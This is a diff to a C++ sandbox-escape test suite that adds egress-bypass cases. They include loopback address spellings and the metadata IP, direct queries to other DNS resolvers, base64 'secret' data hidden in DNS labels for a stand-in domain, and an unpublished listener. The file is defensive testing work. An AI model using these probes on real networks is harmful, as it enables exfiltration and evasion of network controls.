@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
-// F: out over the network, past a rule. One port of the host's loopback is let out, another one is
-// not; what reaches that one is counted by who listens there.
+// F and G: out over the network, past a rule. One port of the host's loopback is let out, another
+// one is not; what reaches that one is counted by who listens there.
 #include <netinet/in.h>
 #include <sys/socket.h>
 #include <unistd.h>
@@ -104,9 +104,139 @@ void SocketRace(Escape& escape) {
   Race_(escape, "socket-race");
 }
 
+// ---- Addresses and names.
+
+// It cannot tell whether it won (attack.h: kHeld): who listens outside does.
+Words Python(const std::string& script, const Words& arguments) {
+  Words words = {"python3", "-c", "import os, socket, struct, sys\n" + script + "sys.exit(11)\n"};
+  words.insert(words.end(), arguments.begin(), arguments.end());
+  return words;
+}
+
+// Loopback of the host, however it is written, where everything public is let out.
+void Spellings(Escape& escape) {
+  const Server evil(nullptr);
+  int seen = 0;
+  constexpr char kScript[] =
+      "for where in ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '0.0.0.0', '::1', "
+      "'::',"
+      " '::ffff:127.0.0.1', '64:ff9b::7f00:1', '2002:7f00:1::', 'localhost', 'localhost.',"
+      " '127.0.0.2', '169.254.169.254', 'host', '198.18.0.1', '198.18.0.0', '198.18.1.0']:\n"
+      "  try: socket.create_connection((where, int(sys.argv[1])), 2).close()\n"
+      "  except OSError: pass\n";
+  escape.Try({.argv = Python(kScript, {evil.port_text()}),
+              .profile = escape.WriteProfile("cellrun: 1\nname: open\nextends: [base]\n"
+                                             "commands: {default: allow}\n"
+                                             "network: {default: allow, rules: [{to: '*', then: "
+                                             "allow}]}\n"),
+              .prepare = [&] { seen = evil.accepted(); },
+              .damage =
+                  [&] {
+                    const int came = evil.accepted() - seen;
+                    return came == 0 ? "" : std::to_string(came) + " connections";
+                  }});
+}
+
+// A question to a resolver, as the last two attacks ask it.
+constexpr char kQuestion[] =
+    "def question(name, kind):\n"
+    "  labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))\n"
+    "  return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', "
+    "kind, "
+    "1)\n"
+    "def ask(where, port, name, kind):\n"
+    "  try:\n"
+    "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "    s.sendto(question(name, kind), (where, port)); s.settimeout(0.3); s.recv(512)\n"
+    "  except OSError: pass\n"
+    "  try:\n"
+    "    s = socket.create_connection((where, port), 1); q = question(name, kind)\n"
+    "    s.sendall(struct.pack('>H', len(q)) + q); s.close()\n"
+    "  except OSError: pass\n"
+    "port = int(sys.argv[1])\n";
+
+std::string WithResolver(Escape& escape, const DatagramServer& resolver) {
+  return escape.WriteProfile(
+      "cellrun: 1\nname: names\nextends: [base]\ncommands: {default: allow}\nnetwork:\n"
+      "  dns: {upstream: '127.0.0.1:" +
+      resolver.port_text() + "'}\n  rules: [{to: git.example.com, then: allow}]\n");
+}
+
+void AskOutside(Escape& escape, const std::string& script) {
+  const DatagramServer resolver;
+  int came = 0;
+  escape.Try({.argv = Python(kQuestion + script, {resolver.port_text()}),
+              .profile = WithResolver(escape, resolver),
+              .prepare = [&] { came = 0; },
+              .damage =
+                  [&] {
+                    came += resolver.Take();
+                    return came == 0 ? "" : std::to_string(came) + " questions";
+                  }});
+}
+void DirectDns(Escape& escape) {
+  AskOutside(escape,
+             "for where in ['127.0.0.1', 'host', '198.18.0.1', '127.0.0.53']:\n"
+             "  for p in [port, 53, 853, 5353]: ask(where, p, 'git.example.com', 1)\n");
+}
+// The cell's own resolver is the one of resolv.conf; without a cell that is the test's.
+void Labels(Escape& escape) {
+  AskOutside(
+      escape,
+      "mine = 'CELLRUN' in os.environ\n"
+      "conf = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
+      "where, port = (conf[0], 53) if mine else ('127.0.0.1', port)\n"
+      "for kind in [1, 28, 16, 10, 15, 255, 5, 12, 33, 65]:\n"
+      "  ask(where, port, 'c2VjcmV0%d.git.example.com' % kind, kind)\n"
+      "  ask(where, port, 'c2VjcmV0%d.com' % kind, kind)\n"
+      "for name in ['c2VjcmV0.git.example.com', 'git.example.com.c2VjcmV0.com']:\n"
+      "  try: mine and socket.getaddrinfo(name, 443)\n"
+      "  except OSError: pass\n");
+}
+
+// A server of the cell that nobody publishes waits for whoever comes from outside.
+void Unpublished(Escape& escape) {
+  const std::string port = [] {
+    const Server gone(nullptr);
+    return gone.port_text();
+  }();
+  std::atomic<int> reached{0};
+  std::atomic<bool> stop{false};
+  std::thread outside([&] {
+    while (!stop) {
+      const UniqueFd fd(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
+      sockaddr_in to{};
+      to.sin_family = AF_INET;
+      to.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
+      to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+      if (connect(fd.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0) ++reached;
+      std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    }
+  });
+  escape.Try({.argv = Python("s = socket.socket()\n"
+                             "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
+                             "s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(); s.settimeout(2)\n"
+                             "try: s.accept()\n"
+                             "except OSError: pass\n",
+                             {port}),
+              .profile = Letting(escape, "1"),
+              .prepare = [&] { reached = 0; },
+              .damage =
+                  [&] {
+                    const int came = reached;
+                    return came == 0 ? "" : std::to_string(came) + " connections";
+                  }});
+  stop = true;
+  outside.join();
+}
+
 constexpr Case kCases[] = {
     {"F1", "denied_streams", "connect to a denied port in every way", Streams},
     {"F4", "denied_datagrams", "send datagrams where no rule says udp", Datagrams},
+    {"F5", "address_spellings", "write the host's loopback in every way", Spellings},
+    {"F17", "unpublished_listener", "listen for somebody outside", Unpublished},
+    {"G1", "direct_dns", "ask resolvers around the cell's own", DirectDns},
+    {"G2", "labels", "hide data in names that are asked for", Labels},
     {"F17", "address_race", "flip the port while connect is judged", AddressRace},
     {"F17", "socket_race", "swap the socket while connect is judged", SocketRace},
 };
